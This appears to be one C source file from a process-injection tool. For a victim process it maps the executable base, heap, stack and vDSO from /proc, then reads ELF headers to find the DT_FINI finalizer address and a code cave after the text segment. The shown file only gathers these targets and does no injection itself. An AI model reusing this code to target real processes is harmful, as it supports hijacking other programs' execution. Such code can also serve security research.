/* SPDX-License-Identifier: Apache-2.0 */
#include "attacker.h"

#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* Reads the program's headers and its dynamic section: where DT_FINI and the end of text are. */
static int look_at_file(int fd, uint64_t base, struct victim_process *v)
{
	uint64_t first = UINT64_MAX, fini = 0, dynamic_size = 0, dynamic_offset = 0;
	Elf64_Phdr p, text = { 0 };
	Elf64_Ehdr e;
	Elf64_Dyn d;

	if (pread(fd, &e, sizeof(e), 0) != sizeof(e))
		return -ENOEXEC;
	for (unsigned i = 0; i < e.e_phnum; i++) {
		if (pread(fd, &p, sizeof(p), (off_t)(e.e_phoff + i * sizeof(p))) != sizeof(p))
			return -ENOEXEC;
		if (p.p_type == PT_LOAD && p.p_vaddr < first)
			first = p.p_vaddr & ~4095UL;
		if (p.p_type == PT_LOAD && (p.p_flags & PF_X))
			text = p;
		if (p.p_type == PT_DYNAMIC) {
			dynamic_offset = p.p_offset;
			dynamic_size = p.p_filesz;
		}
	}
	for (uint64_t at = 0; at + sizeof(d) <= dynamic_size; at += sizeof(d)) {
		if (pread(fd, &d, sizeof(d), (off_t)(dynamic_offset + at)) != sizeof(d))
			return -ENOEXEC;
		if (d.d_tag == DT_FINI)
			fini = d.d_un.d_ptr;
	}
	if (fini < text.p_vaddr || fini >= text.p_vaddr + text.p_filesz)
		return -ENOEXEC;
	v->fini = base - first + fini;
	v->fini_offset = fini - text.p_vaddr + text.p_offset;
	v->cave = base - first + text.p_vaddr + text.p_filesz;
	if (v->cave % 4096 > 4096 - 16)
		v->cave = 0;
	return 0;
}

int victim_look(pid_t pid, struct victim_process *ret)
{
	struct victim_process v = { .pid = pid };
	char path[64], line[4608], name[4096];
	uint64_t start, end, base = 0;
	FILE *maps;
	ssize_t n;
	int fd, r;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, v.executable, sizeof(v.executable) - 1);
	if (n < 0)
		return -errno;
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		return -errno;
	while (fgets(line, sizeof(line), maps)) {
		name[0] = '\0';
		if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095[^\n]", &start, &end, name) < 2)
			continue;
		if (!base && strcmp(name, v.executable) == 0)
			base = start;
		else if (strcmp(name, "[heap]") == 0)
			v.heap = start;
		else if (strcmp(name, "[stack]") == 0)
			v.stack = end - 64;
		else if (strcmp(name, "[vdso]") == 0) {
			v.vdso = start;
			v.vdso_end = end;
		}
	}
	fclose(maps);
	if (!base)
		return -ESRCH;
	fd = open(v.executable, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	r = look_at_file(fd, base, &v);
	close(fd);
	if (r == 0)
		*ret = v;
	return r;
}
